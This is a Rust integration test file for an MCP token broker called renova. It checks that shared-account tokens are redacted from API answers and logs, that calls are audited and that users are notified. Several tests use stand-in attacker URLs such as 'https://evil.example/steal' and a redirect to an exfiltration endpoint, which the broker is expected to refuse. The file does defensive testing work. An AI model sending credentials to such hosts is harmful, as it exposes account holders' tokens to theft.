//! `renova mcp` with a real MCP client nobody here wrote (the official Python SDK), the real
//! binary, a real keyring and wiremock as RD's API: accounts are invisible until shared, the
//! token goes only where the person allowed and never comes back, every call is audited.

use std::time::Duration;

use serde_json::{Value, json};
use wiremock::matchers::{method, path};
use wiremock::{Mock, Request, ResponseTemplate};

use crate::support::mcp::{call, session};
use crate::support::{CLIENT_SECRET, Env, REFRESH_TOKEN, rd};

const TOKEN: &str = "fake-access-mcp-5z7Qw2";

/// An API that echoes back what it was sent, headers included, as a careless API would.
struct Echo;

impl wiremock::Respond for Echo {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        let headers: serde_json::Map<String, Value> = request
            .headers
            .iter()
            .map(|(k, v)| (k.to_string(), json!(v.to_str().unwrap_or_default())))
            .collect();
        ResponseTemplate::new(200)
            .insert_header("x-ratelimit-remaining", "119")
            .insert_header("set-cookie", "session=fake-cookie-value")
            .set_body_json(json!({
                "contacts": [{"name": "Ana Zé", "email": "ana@example.com"}],
                "you_sent": headers,
                "query": request.url.query(),
            }))
    }
}

/// RD with a token for each refresh, the echoing API, and three accounts: `loja` shared for
/// calls, `agencia` shared with its token, `privada` not shared.
async fn env() -> Env {
    let env = Env::with_rd().await;
    rd::mount_refresh(env.rd(), rd::issued(TOKEN), 0..).await;
    Mock::given(path("/platform/contacts"))
        .respond_with(Echo)
        .mount(env.rd())
        .await;
    for name in ["loja", "agencia", "privada"] {
        env.add_rd(name);
        env.renova().args(["token", name]).assert().success();
    }
    env.renova()
        .args(["edit", "loja", "--assistants", "call"])
        .assert()
        .success();
    env.renova()
        .args(["edit", "agencia", "--assistants", "token"])
        .assert()
        .success();
    env
}

fn results(report: &Value) -> &Vec<Value> {
    report["results"].as_array().unwrap()
}

/// Everything a secret must not appear in: the report, and whatever `renova mcp` logged.
fn assert_no_secret(report: &Value) {
    let text = report.to_string();
    for secret in [TOKEN, CLIENT_SECRET, REFRESH_TOKEN] {
        assert!(!text.contains(secret), "{secret} in {text}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_tools_are_listed_with_their_schemas_and_only_shared_accounts_exist() {
    let env = env().await;
    let report = session(
        &env,
        "schema-client",
        json!([{"list_tools": true}, call("list_accounts", json!({}))]),
    );
    assert_eq!(report["server"]["name"], "renova", "{report}");
    let tools = results(&report)[0]["tools"].as_array().unwrap();
    let names: Vec<&str> = tools.iter().map(|t| t["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["list_accounts", "http_request", "get_token"]);
    let request = &tools[1]["input_schema"];
    assert_eq!(request["required"], json!(["account", "method", "url"]));
    assert_eq!(request["properties"]["headers"]["type"], "object");
    assert!(
        tools
            .iter()
            .all(|t| t["description"].as_str().unwrap().len() > 100),
        "every tool is described for a model: {tools:?}"
    );
    let listed = &results(&report)[1]["structured"]["accounts"];
    let mut names: Vec<&str> = listed
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["name"].as_str().unwrap())
        .collect();
    names.sort_unstable();
    assert_eq!(names, ["agencia", "loja"], "privada is off: {listed}");
    let loja = listed
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["name"] == "loja")
        .unwrap();
    assert_eq!(loja["allowed_origins"], json!([env.rd().uri()]));
    assert_eq!(loja["get_token_allowed"], false);
    assert_eq!(loja["state"], "valid");
    assert_no_secret(&report);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_request_through_renova_returns_the_body_and_never_the_token() {
    let env = env().await;
    let url = format!("{}/platform/contacts?email=ana@example.com", env.rd().uri());
    let report = session(
        &env,
        "echo-client",
        json!([call(
            "http_request",
            json!({"account": "loja", "method": "GET", "url": url, "headers": {"Accept": "application/json"}})
        )]),
    );
    let answer = &results(&report)[0];
    assert_eq!(answer["is_error"], false, "{answer}");
    let r = &answer["structured"];
    assert_eq!(r["status"], 200);
    assert_eq!(r["headers"]["x-ratelimit-remaining"], "119");
    assert!(r["headers"].get("set-cookie").is_none(), "{r}");
    let body: Value = serde_json::from_str(r["body"].as_str().unwrap()).unwrap();
    assert_eq!(
        body["contacts"][0]["name"], "Ana Zé",
        "the body stays JSON: {r}"
    );
    assert_eq!(
        body["you_sent"]["authorization"], "Bearer [redacted]",
        "{r}"
    );
    assert_eq!(body["you_sent"]["accept"], "application/json");
    assert!(r["note"].as_str().unwrap().contains("[redacted]"));
    assert_no_secret(&report);
    // The audit line: the client, the tool, method, origin and path, no query, no token.
    let audit = env.audit();
    let line = audit
        .lines()
        .find(|l| l.contains("\"tool\":\"http_request\""))
        .unwrap_or_else(|| panic!("no http_request line in {audit}"));
    let line: Value = serde_json::from_str(line).unwrap();
    assert_eq!(line["client"], "echo-client 9.9.9");
    assert_eq!(line["method"], "GET");
    assert_eq!(line["origin"], env.rd().uri());
    assert_eq!(line["path"], "/platform/contacts");
    assert_eq!(line["status"], 200);
    assert_eq!(line["access_fp"].as_str().unwrap().len(), 8);
    assert!(
        !audit.contains(TOKEN) && !audit.contains("ana@example.com"),
        "{audit}"
    );
    // The window's details read the last use from state.json.
    let id = env.account_id("loja");
    let last = &env.state()["accounts"][&id]["assistant_use"];
    assert_eq!(last["client"], "echo-client 9.9.9", "{last}");
    assert_eq!(last["what"], format!("GET 127.0.0.1/platform/contacts"));
}

#[tokio::test(flavor = "multi_thread")]
async fn another_origin_a_redirect_away_and_a_callers_authorization_are_tool_errors() {
    let env = env().await;
    Mock::given(path("/platform/away"))
        .respond_with(
            ResponseTemplate::new(302).insert_header("location", "https://evil.example/collect"),
        )
        .mount(env.rd())
        .await;
    let base = env.rd().uri();
    let report = session(
        &env,
        "careless-client",
        json!([
            call(
                "http_request",
                json!({"account": "loja", "method": "GET", "url": "https://evil.example/steal"})
            ),
            call(
                "http_request",
                json!({"account": "loja", "method": "GET", "url": format!("{base}/platform/away")})
            ),
            call(
                "http_request",
                json!({"account": "loja", "method": "GET", "url": format!("{base}/platform/contacts"), "headers": {"Authorization": "Bearer mine"}})
            ),
            call(
                "http_request",
                json!({"account": "loja", "method": "GET", "url": format!("{base}/platform/contacts"), "headers": {"cookie": "a=b"}})
            ),
            call(
                "http_request",
                json!({"account": "privada", "method": "GET", "url": format!("{base}/platform/contacts")})
            ),
            call(
                "http_request",
                json!({"account": "loja", "method": "TRACE", "url": format!("{base}/platform/contacts")})
            ),
        ]),
    );
    let r = results(&report);
    let said = |i: usize| {
        assert_eq!(r[i]["is_error"], true, "{}", r[i]);
        r[i]["text"].as_str().unwrap().to_owned()
    };
    assert!(
        said(0).contains("origin https://evil.example is not allowed for “loja”"),
        "{}",
        said(0)
    );
    assert!(said(0).contains("--assistant-origins"), "{}", said(0));
    assert!(
        said(1).contains("redirected to https://evil.example"),
        "{}",
        said(1)
    );
    assert!(
        said(2).contains("the Authorization header cannot be sent"),
        "{}",
        said(2)
    );
    assert!(
        said(3).contains("the cookie header cannot be sent"),
        "{}",
        said(3)
    );
    assert!(
        said(4).contains("no account named “privada” is shared"),
        "{}",
        said(4)
    );
    assert!(
        said(4).contains("renova edit privada --assistants call"),
        "{}",
        said(4)
    );
    assert!(
        said(5).contains("method TRACE is not allowed"),
        "{}",
        said(5)
    );
    assert_no_secret(&report);
    let refused = env.audit().matches("\"refused\":").count();
    assert_eq!(refused, 6, "{}", env.audit()); // An answer over 1 MiB is cut there, and says so.
    Mock::given(path("/platform/export"))
        .respond_with(ResponseTemplate::new(200).set_body_string("x".repeat(2 * 1024 * 1024)))
        .mount(env.rd())
        .await;
    let report = session(
        &env,
        "big-client",
        json!([call(
            "http_request",
            json!({"account": "loja", "method": "GET", "url": format!("{base}/platform/export")})
        )]),
    );
    let big = &results(&report)[0]["structured"];
    assert_eq!(big["truncated"], true, "{}", big["truncated_note"]);
    assert_eq!(big["body"].as_str().unwrap().len(), 1024 * 1024);
    assert!(big["truncated_note"].as_str().unwrap().contains("1 MiB"));
}

#[tokio::test(flavor = "multi_thread")]
async fn get_token_is_refused_at_call_and_given_at_token() {
    let env = env().await;
    let report = session(
        &env,
        "token-client",
        json!([
            call("get_token", json!({"account": "loja"})),
            call("get_token", json!({"account": "agencia"})),
        ]),
    );
    let r = results(&report);
    assert_eq!(r[0]["is_error"], true, "{}", r[0]);
    assert!(
        r[0]["text"]
            .as_str()
            .unwrap()
            .contains("renova edit loja --assistants token"),
        "{}",
        r[0]
    );
    assert_eq!(r[1]["is_error"], false, "{}", r[1]);
    assert_eq!(r[1]["structured"]["access_token"], TOKEN);
    assert!(r[1]["structured"]["expires_at"].as_str().is_some());
}

#[tokio::test(flavor = "multi_thread")]
async fn eight_requests_at_once_on_an_expired_token_make_one_refresh() {
    let env = Env::with_rd().await;
    Mock::given(path("/platform/contacts"))
        .respond_with(Echo)
        .mount(env.rd())
        .await;
    // The first token, then one refresh for the eight requests.
    rd::mount_refresh(env.rd(), rd::issued(TOKEN), 2).await;
    let id = env.add_rd("loja");
    env.renova().args(["token", "loja"]).assert().success();
    env.renova()
        .args(["edit", "loja", "--assistants", "call"])
        .assert()
        .success();
    env.age_token(&id, Duration::ZERO, Duration::from_secs(86_400));
    let url = format!("{}/platform/contacts", env.rd().uri());
    let one = call(
        "http_request",
        json!({"account": "loja", "method": "GET", "url": url}),
    );
    let report = session(&env, "parallel-client", json!([{"parallel": vec![one; 8]}]));
    let answers = results(&report)[0]["parallel"].as_array().unwrap();
    assert_eq!(answers.len(), 8);
    for a in answers {
        assert_eq!(a["is_error"], false, "{a}");
        assert_eq!(a["structured"]["status"], 200, "{a}");
    }
    assert_no_secret(&report);
    let refreshes = env
        .rd()
        .received_requests()
        .await
        .unwrap()
        .iter()
        .filter(|r| r.method == wiremock::http::Method::POST)
        .count();
    assert_eq!(
        refreshes, 2,
        "the first token and one refresh for the eight"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn errors_are_in_the_persons_language_and_a_generic_provider_needs_origins() {
    let env = env().await;
    Mock::given(method("GET"))
        .and(path("/me"))
        .respond_with(ResponseTemplate::new(200))
        .mount(env.rd())
        .await;
    let base = env.rd().uri();
    let report = crate::support::mcp::session_with(
        &env,
        "pt-client",
        json!([call(
            "http_request",
            json!({"account": "loja", "method": "GET", "url": "https://evil.example/"})
        )]),
        &[("LANG", "pt_BR.UTF-8")],
    );
    let text = results(&report)[0]["text"].as_str().unwrap().to_owned();
    assert!(text.contains("não é permitida para “loja”"), "{text}");
    // A generic OAuth 2.0 account has no origin until one is named.
    env.add_with(
        "generico",
        &[
            "--provider",
            "oauth2",
            "--token-url",
            &format!("{base}/token"),
        ],
        &crate::support::secrets(),
    )
    .success();
    env.renova()
        .args(["edit", "generico", "--assistants", "call"])
        .assert()
        .success();
    let report = session(
        &env,
        "generic-client",
        json!([
            call(
                "http_request",
                json!({"account": "generico", "method": "GET", "url": format!("{base}/me")})
            ),
            call("list_accounts", json!({})),
        ]),
    );
    let r = results(&report);
    assert!(
        r[0]["text"]
            .as_str()
            .unwrap()
            .contains("--assistant-origins https://api.example.com"),
        "{}",
        r[0]
    );
    let generic = r[1]["structured"]["accounts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["name"] == "generico")
        .unwrap()
        .clone();
    assert_eq!(generic["allowed_origins"], json!([]));
    // A bad origin is refused at edit, with what is wrong.
    let bad = env.run(&[
        "edit",
        "loja",
        "--assistant-origins",
        "https://api.rd.services/v1",
    ]);
    assert_eq!(bad.code, Some(2), "{}", bad.stderr);
    assert!(
        bad.stderr
            .contains("only the scheme, the host and the port"),
        "{}",
        bad.stderr
    );
    let plain = env.run(&[
        "edit",
        "loja",
        "--assistant-origins",
        "http://api.rd.services",
    ]);
    assert_eq!(plain.code, Some(2), "{}", plain.stderr);
}

/// The first use of an account by a client in a day is told once, whichever process serves
/// it: two sessions of one client make one notification an account, another client its own.
#[tokio::test(flavor = "multi_thread")]
async fn the_first_use_of_a_day_by_each_client_is_one_notification() {
    use crate::support::tray::FakeNotifications;
    let env = env().await;
    let desktop = FakeNotifications::start(&env.bus.address).await;
    let url = format!("{}/platform/contacts?page=2", env.rd().uri());
    let steps = json!([
        call(
            "http_request",
            json!({"account": "loja", "method": "GET", "url": url})
        ),
        call(
            "http_request",
            json!({"account": "loja", "method": "GET", "url": url})
        ),
        call("get_token", json!({"account": "agencia"})),
    ]);
    session(&env, "Claude Code", steps.clone());
    session(&env, "Claude Code", steps.clone());
    session(&env, "Cursor", steps);
    crate::agent::until("four notifications", || desktop.shown().len() >= 4).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let mut shown: Vec<String> = desktop.shown().into_iter().map(|(s, _)| s).collect();
    shown.sort();
    assert_eq!(
        shown,
        [
            "Claude Code used agencia (get_token)",
            "Claude Code used loja (GET 127.0.0.1/platform/contacts)",
            "Cursor used agencia (get_token)",
            "Cursor used loja (GET 127.0.0.1/platform/contacts)",
        ],
        "{:?}",
        desktop.shown()
    );
}

/// What the API answers is cut of every secret Renova holds, not only the token sent: another
/// secret of any account, in any encoding; a body Renova cannot read as text (compressed,
/// UTF-16, binary) is withheld; the assistant cannot ask for compression; a body of the wrong
/// shape is refused rather than dropped; and a debug log of the session holds no token.
#[tokio::test(flavor = "multi_thread")]
async fn secrets_renova_holds_never_come_back_whatever_the_api_answers() {
    let env = env().await;
    let secret_form: String =
        url::form_urlencoded::byte_serialize(CLIENT_SECRET.as_bytes()).collect();
    Mock::given(path("/platform/leak"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "debug": {"client_secret": secret_form, "refresh": REFRESH_TOKEN.replace('-', "\\u002d")},
        })))
        .mount(env.rd())
        .await;
    let utf16: Vec<u8> = format!("{{\"token\": \"{TOKEN}\"}}")
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    Mock::given(path("/platform/utf16"))
        .respond_with(
            ResponseTemplate::new(200).set_body_raw(utf16, "application/json; charset=utf-16"),
        )
        .mount(env.rd())
        .await;
    Mock::given(path("/platform/gzip"))
        .respond_with(
            ResponseTemplate::new(200)
                .insert_header("content-encoding", "gzip")
                .set_body_raw(vec![0x1f, 0x8b, 8, 0, 1, 2, 3], "application/json"),
        )
        .mount(env.rd())
        .await;
    let base = env.rd().uri();
    let get = |p: &str| {
        call(
            "http_request",
            json!({"account": "loja", "method": "GET", "url": format!("{base}{p}")}),
        )
    };
    let report = crate::support::mcp::session_with(
        &env,
        "log-client",
        json!([
            get("/platform/leak"),
            get("/platform/utf16"),
            get("/platform/gzip"),
            call(
                "http_request",
                json!({"account": "loja", "method": "GET", "url": format!("{base}/platform/contacts"), "headers": {"Accept-Encoding": "gzip"}})
            ),
            call(
                "http_request",
                json!({"account": "loja", "method": "PUT", "url": format!("{base}/platform/contacts"), "body": {"name": "x"}})
            ),
            call("get_token", json!({"account": "agencia"})),
        ]),
        &[("RENOVA_LOG", "trace")],
    );
    let r = results(&report);
    assert_eq!(r[0]["is_error"], false, "{}", r[0]);
    assert!(r[0]["structured"]["note"].as_str().is_some(), "{}", r[0]);
    for i in [1, 2] {
        assert_eq!(r[i]["structured"]["body"], "", "{}", r[i]);
        assert!(
            r[i]["structured"]["withheld_note"].as_str().is_some(),
            "{}",
            r[i]
        );
    }
    assert!(
        r[3]["text"]
            .as_str()
            .unwrap()
            .contains("Accept-Encoding header cannot be sent"),
        "{}",
        r[3]
    );
    assert_eq!(r[4]["is_error"], true, "{}", r[4]);
    assert!(
        r[4]["text"]
            .as_str()
            .unwrap()
            .contains("`body` has the wrong shape"),
        "{}",
        r[4]
    );
    // Everything but get_token's own answer holds no secret, the server's trace log included.
    let mut without_token = report.clone();
    without_token["results"][5] = Value::Null;
    assert_no_secret(&without_token);
    let log = report["stderr"].as_str().unwrap();
    assert!(
        log.contains("TRACE") || log.contains("DEBUG"),
        "the log was on: {log}"
    );
    for secret in [TOKEN, CLIENT_SECRET, REFRESH_TOKEN] {
        assert!(!log.contains(secret), "{secret} in the log");
    }
    // The PUT with the wrong body never reached the API.
    let puts = env
        .rd()
        .received_requests()
        .await
        .unwrap()
        .iter()
        .filter(|r| r.method == wiremock::http::Method::PUT)
        .count();
    assert_eq!(puts, 0);
}

/// Static tokens through the broker as OAuth tokens go: CRM v1's in the query (no header),
/// Conversas' as Bearer; neither ever in the answer.
#[tokio::test(flavor = "multi_thread")]
async fn static_tokens_go_where_their_api_takes_them_and_never_come_back() {
    let env = Env::with_rd().await;
    Mock::given(path("/deals"))
        .respond_with(Echo)
        .mount(env.rd())
        .await;
    let base = env.rd().uri();
    let crm_token = "fakecrmv1brokertoken0123456789";
    let jwt_token = "fake-conversas-static-bearer-token";
    for (name, provider, token) in [
        ("crm1", "rdstation-crm-v1", crm_token),
        ("conversas", "rdstation-conversas", jwt_token),
    ] {
        env.renova()
            .args(["add", name, "--provider", provider, "--base-url", &base])
            .write_stdin(format!("{token}\n"))
            .assert()
            .success();
        env.renova()
            .args(["edit", name, "--assistants", "call"])
            .assert()
            .success();
    }
    let url = format!("{base}/deals?limit=1");
    let report = session(
        &env,
        "static-client",
        json!([
            call(
                "http_request",
                json!({"account": "crm1", "method": "GET", "url": url})
            ),
            call(
                "http_request",
                json!({"account": "conversas", "method": "GET", "url": url})
            ),
        ]),
    );
    let body = |i: usize| -> Value {
        let answer = &results(&report)[i];
        assert_eq!(answer["is_error"], false, "{answer}");
        serde_json::from_str(answer["structured"]["body"].as_str().unwrap()).unwrap()
    };
    let crm = body(0);
    assert!(crm["you_sent"].get("authorization").is_none(), "{crm}");
    assert_eq!(crm["query"], "limit=1&token=[redacted]", "{crm}");
    let conversas = body(1);
    assert_eq!(conversas["you_sent"]["authorization"], "Bearer [redacted]");
    assert_eq!(conversas["query"], "limit=1", "{conversas}");
    let text = report.to_string();
    assert!(
        !text.contains(crm_token) && !text.contains(jwt_token),
        "{text}"
    );
    let requests = env.rd().received_requests().await.unwrap();
    assert!(
        requests
            .iter()
            .any(|r| r.url.query() == Some(&format!("limit=1&token={crm_token}"))),
        "CRM v1 got its token in the query"
    );
}
